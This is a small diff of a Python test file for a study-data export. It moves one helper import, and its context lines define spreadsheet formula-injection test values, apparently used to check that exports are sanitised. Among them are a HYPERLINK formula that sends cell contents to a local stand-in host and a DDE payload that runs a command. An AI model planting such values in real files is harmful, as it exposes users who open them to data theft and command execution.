@@ -16,7 +16,7 @@ from study.storage.models import Answer, Assignment, Case, Reader, Study
 from study.jobs.simulate_readers import simulate
 from tests.study.test_study_export import parse_imrmc
 from tests.study.test_study_simulate import seed_study
-from tests.study.helpers import committed
+from testsupport.studies import committed
 
 LINK = '=HYPERLINK("http://127.0.0.1:9/x?d="&A1,"click")'
 HOSTILE_KEYS = {"c000": LINK, "c001": "-5", "c002": "+cmd|' /C calc'!A0", "c003": "@SUM(1+1)"}
